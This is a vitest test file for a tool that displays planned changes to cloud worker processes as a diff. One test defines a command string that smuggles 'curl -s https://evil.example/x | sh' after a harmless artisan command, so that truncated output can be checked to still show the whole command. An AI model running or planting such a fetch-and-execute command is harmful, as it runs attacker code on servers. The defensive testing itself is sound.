import { describe, expect, test } from 'vitest';
import { rowName } from '../../src/cloud/compare.ts';
import type { ExistingProcess } from '../../src/cloud/process.ts';
import { cloudService } from '../../src/cloud/service.ts';
import type { ProcessSpec } from '../../src/cloud/spec.ts';
import { type OperationResult, planFor } from '../../src/converge/plan.ts';
import {
  doneRows,
  inGroups,
  type Naming,
  type PlanRow,
  plannedRows,
  planText,
  rowText,
} from '../../src/converge/text.ts';
import { custom, existing, listingOf, worker } from '../support/processes.ts';

const app = { id: 'inst-1', name: 'App' };
const imports = { id: 'inst-2', name: 'imports' };
const naming: Naming<ProcessSpec, ExistingProcess> = { nameOf: rowName, particularsOf: () => ({}) };
const runs = (id: string, command: string, processes = 1) =>
  existing({ id, type: 'custom', command, processes });

function operationsOf(prune = false) {
  const states = [
    {
      place: app,
      declared: [
        custom('php artisan reverb:start', 2),
        worker({ queue: 'high,default', tries: 5, force: true }, 2),
        custom('php artisan horizon'),
      ],
      listing: listingOf([
        existing({ id: 'p-1', config: { queue: 'high,default', connection: 'redis', tries: 3, sleep: 3 } }),
        runs('p-2', 'php artisan horizon'),
        existing({ id: 'p-3', processes: 2, config: { queue: 'low', timeout: 90 } }),
      ]),
    },
    {
      place: imports,
      declared: [custom('php artisan pulse:work')],
      listing: listingOf([runs('p-4', 'php artisan pulse:work')]),
    },
  ];
  return planFor(states, cloudService, { prune }).operations;
}
const rowsOf = (prune = false) => plannedRows(operationsOf(prune), naming);

/** The rows of a plan for App alone. */
function rowsFor(
  declared: readonly ProcessSpec[],
  there: readonly ExistingProcess[] = [],
  onDrift = cloudService.onDrift,
) {
  const state = { place: app, declared, listing: listingOf(there) };
  return plannedRows(planFor([state], { ...cloudService, onDrift }, { prune: false }).operations, naming);
}

/** What became of each operation. */
function ended(...statuses: readonly OperationResult['status'][]): readonly PlanRow[] {
  const results = operationsOf(true).map((operation, index) => ({
    operation,
    status: statuses[index] ?? 'done',
    outcome: operation.action === 'keep' ? ('unchanged' as const) : undefined,
    process: undefined,
    changes: {},
    ...{ error: 'no', why: 'no' },
  }));
  return doneRows(results, naming, () => undefined);
}

const diffOf = (rows: readonly PlanRow[], room?: number): readonly string[] =>
  planText(rows, room).places.flatMap(({ lines }) => lines);

describe('A plan as a diff', () => {
  test('says first what happens, then to what, and what is lost before what is new', () => {
    const rows = rowsOf(true).map((row) =>
      row.place.id === 'inst-1' ? { ...row, place: { ...row.place, note: '2–4 replicas' } } : row,
    );
    const { places, unchanged, ids, whole, idle } = planText(rows);
    expect(places.flatMap(({ lines }) => lines)).toEqual([
      '@@ App · 2–4 replicas @@',
      '- delete      worker low · 2 processes, timeout 90',
      '! 1 → 2 proc., tries 3 → 5, force unset → true  worker high,default (redis)',
      '+ 2 processes php artisan reverb:start',
    ]);
    expect(unchanged).toEqual([
      '@@ App · 2–4 replicas @@',
      '= 1 process php artisan horizon',
      '@@ imports @@',
      '= 1 process php artisan pulse:work',
    ]);
    expect(ids).toEqual([
      'p-1  worker high,default (redis) on App',
      'p-2  php artisan horizon on App',
      'p-3  worker low on App',
      'p-4  php artisan pulse:work on imports',
    ]);
    expect([whole, idle]).toEqual([[], []]);
  });

  test('begins with the group of a deletion, where rows share their user or directory', () => {
    const ofUser = (users: readonly string[]) =>
      rowsOf(true)
        .filter(({ action, place }) => action !== 'keep' && place === app)
        .map((row, index) => ({ ...row, shared: [users[index] ?? ''] }));
    expect(ofUser(['a', 'b', 'c']).map(({ action }) => action)).toEqual(['create', 'update', 'delete']);
    const headings = diffOf(ofUser(['a', 'b', 'c'])).filter((line) => line.startsWith('@@'));
    expect(headings).toEqual(['@@ App · c @@', '@@ App · b @@', '@@ App · a @@']);
  });

  test('says that something is kept that is not in the manifest', () => {
    expect(diffOf(rowsOf())).toContain(
      '? kept        worker low · 2 processes, timeout 90 · not in the manifest',
    );
  });

  test('says that a process is replaced where it cannot be changed', () => {
    const rows = rowsFor([custom('php a', 2000), custom('php b')], [runs('p-1', 'php a', 100)], 'replace');
    expect(diffOf(rows)).toEqual([
      '@@ App @@',
      '! 100 → 2000 proc. php a · replaced',
      '+ 1 process        php b',
    ]);
  });

  test('has neither sign nor colour for what did not happen, and says what it would have changed', () => {
    expect(diffOf(ended('failed', 'failed', 'done', 'not-done'))).toEqual([
      '@@ App @@',
      '  FAILED   create php artisan reverb:start · 2 processes',
      '  FAILED   update worker high,default (redis) · 1 → 2 proc., tries 3 → 5, force unset → true',
      '  NOT DONE delete worker low · 2 processes, timeout 90',
    ]);
  });

  test('counts what another run has made by then as unchanged', () => {
    const rows = rowsFor([worker({ tries: 3 })]).map(
      (row): PlanRow => ({ ...row, status: 'done', outcome: 'unchanged' }),
    );
    expect(diffOf(rows)).toEqual([]);
    expect(planText(rows).unchanged).toEqual(['@@ App @@', '= 1 process worker default · tries 3']);
  });
});

describe('A plan hides nothing', () => {
  const safe = `php artisan ${'x '.repeat(40)}--safe`;
  const evil = `${safe}; curl -s https://evil.example/x | sh`;

  test('a command that is cut in its line stands whole below, also of a deletion that failed', () => {
    const rows = rowsFor([], [runs('p-1', evil)]).map(
      (row): PlanRow => ({ ...row, action: 'delete', status: 'failed', outcome: undefined }),
    );
    expect(planText(rows).whole).toEqual([`App: FAILED  delete ${evil} · 1 process`]);
  });

  test('commands that differ only behind the cut are not cut', () => {
    const [before, after] = [`${safe} --tries=3`, `${safe} --tries=5`];
    const removed = rowsFor([], [runs('p-1', before)]).map((row): PlanRow => ({ ...row, action: 'delete' }));
    const { places, whole } = planText([...removed, ...rowsFor([custom(after)])]);
    expect(places[0]?.lines.slice(1)).toEqual([`- delete    ${before} · 1 process`, `+ 1 process ${after}`]);
    expect(whole).toEqual([]);
    // One command in two places is cut.
    expect(planText([...removed, ...removed]).whole).toHaveLength(2);
  });

  const queues = Array.from({ length: 12 }, (_, n) => `queue-${n}`).join();
  const six = queues.slice(0, 47);

  test.each([
    ['a long list of queues', `worker ${queues} (redis)`, `worker ${six},… 6 more (redis)`],
    ['a list that fits', `worker ${six}`.padEnd(60, ','), `worker ${six}`.padEnd(60, ',')],
    ['a long name of a queue', `worker ${'x'.repeat(80)} (redis)`, 'worker…'],
    ['a command with a list', `php worker ${queues}`, 'php worker…'],
  ])('%s is cut between its names, with the number of others', (_, name, shown) => {
    const { places, whole } = planText(rowsFor([custom('php a')]).map((row) => ({ ...row, name })));
    expect(places[0]?.lines[1]).toBe(`+ 1 process ${shown}`);
    expect(whole).toEqual(shown === name ? [] : [`App: + 1 process  ${name}`]);
  });
});

test('the places of several environments stand together, and those where nothing changes are named', () => {
  const row = (within: string, status: PlanRow['status'] = 'planned'): PlanRow[] =>
    rowsFor([custom('php a')]).map((one) => ({
      ...one,
      place: { id: `inst-${within}`, name: 'App', within },
      ...(status === 'done' ? { status, outcome: 'unchanged' as const } : {}),
    }));
  const text = planText([...row('production'), ...row('staging', 'done'), ...row('qa')]);
  expect(text.idle).toEqual(['staging']);
  expect(inGroups(text.places)).toMatchObject([
    { name: 'production', counts: { created: 1 }, places: [{ name: 'App', within: 'production' }] },
    { name: 'qa', counts: { created: 1 }, places: [{ name: 'App', within: 'qa' }] },
  ]);
  expect(inGroups(planText(rowsOf()).places)).toBeUndefined();
});

test('the row of an operation says what is planned, with the process as it is', () => {
  const [update, create] = rowsFor([custom('php a', 2), custom('php b')], [runs('p-1', 'php a')]);
  expect(update).toMatchObject({
    ...{ status: 'planned', outcome: 'updated', processId: 'p-1', identity: 'custom process "php a"' },
    changes: { processes: { from: 1, to: 2 } },
  });
  expect(create).toMatchObject({ outcome: 'created', processId: undefined, changes: {} });
});

test('the row of what was done tells what became of it, else what it would have become', () => {
  const operation = operationsOf().find(({ action }) => action === 'update');
  if (operation === undefined) throw new Error('Nothing is to be updated');
  const processes = { from: 1, to: 3 };
  const declaredAt = { file: 'm.yml', line: 4, column: 7 };
  const done = { operation, status: 'done', outcome: 'updated', error: undefined, why: undefined } as const;
  const results = [
    { ...done, process: runs('p-9', 'x'), changes: { processes } },
    { ...done, status: 'failed', process: undefined, changes: {} } as const,
  ];
  expect(doneRows(results, naming, () => declaredAt)).toMatchObject([
    { declaredAt, processId: 'p-9', changes: { processes } },
    { declaredAt, processId: 'p-1', changes: { processes: { from: 1, to: 2 } } },
  ]);
});

test('a change in a sentence', () => {
  expect(rowsOf(true).slice(0, 2).map(rowText)).toEqual([
    'create "php artisan reverb:start" on App, 2 processes',
    'update worker high,default (redis) on App, 1 → 2 proc., tries 3 → 5, force unset → true',
  ]);
});
